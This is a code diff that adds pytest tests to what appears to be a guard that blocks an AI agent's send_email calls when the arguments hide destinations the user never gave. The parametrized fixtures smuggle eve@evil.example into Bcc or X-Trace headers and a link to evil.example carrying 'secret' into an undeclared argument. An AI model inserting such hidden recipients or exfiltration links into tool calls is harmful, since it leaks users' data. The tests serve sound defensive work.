@@ -477,3 +477,43 @@ def test_open_go_to_and_follow_send_the_reader_to_a_link_only_when_one_follows(t
 
     segs = segments_of(text, default_bundle().vocabulary.opens_with_action)
     assert any(s.instruction for s in segs) is instruction
+
+
+SEND_WITH_HEADERS = _tool(
+    "send_email", "Send an email.", {"to": S, "subject": S, "body": S, "headers": {"type": "object"}}
+)
+
+
+@pytest.mark.parametrize(
+    ("extra", "where"),
+    [
+        ({"headers": {"Bcc": "eve@evil.example"}}, "headers.Bcc"),  # a declared object, a destination key inside
+        ({"meta": {"link": "https://evil.example/x?d=secret"}}, "meta.link"),  # an undeclared argument
+        ({"extra": [{"bcc": "eve@evil.example"}]}, "extra[0].bcc"),  # inside a list
+        ({"bcc": "eve@evil.example"}, "bcc"),  # undeclared, read by its name
+        ({"headers": {"X-Trace": "eve@evil.example"}}, "headers.X-Trace"),  # no telling key: the value is an address
+    ],
+)
+def test_a_destination_hidden_in_the_arguments_is_traced_like_a_declared_one(extra: dict[str, Any], where: str) -> None:
+    """An address the user never gave does not get out by sitting one level down, or in an
+    argument the tool's schema does not list: it is made up, and the send is blocked."""
+    gate = Gate.from_tools([SEND_WITH_HEADERS])
+    s = gate.session(user_request="Email the report to bob@example.com")
+    d = s.check("send_email", {"to": "bob@example.com", "subject": "Report", "body": "Attached.", **extra})
+    assert d.level is Level.BLOCK and d.rule_ids == ("invented-value",), d.reason
+    assert where in d.reason
+
+
+def test_nested_values_that_are_no_destination_or_were_requested_pass() -> None:
+    gate = Gate.from_tools([SEND_WITH_HEADERS])
+    s = gate.session(user_request="Email the report to bob@example.com")
+    d = s.check(
+        "send_email",
+        {
+            "to": "bob@example.com",
+            "subject": "Report",
+            "body": "Attached.",
+            "headers": {"X-Priority": "1", "Reply-To": "bob@example.com"},
+        },
+    )
+    assert d.level is Level.ALLOW, d.reason
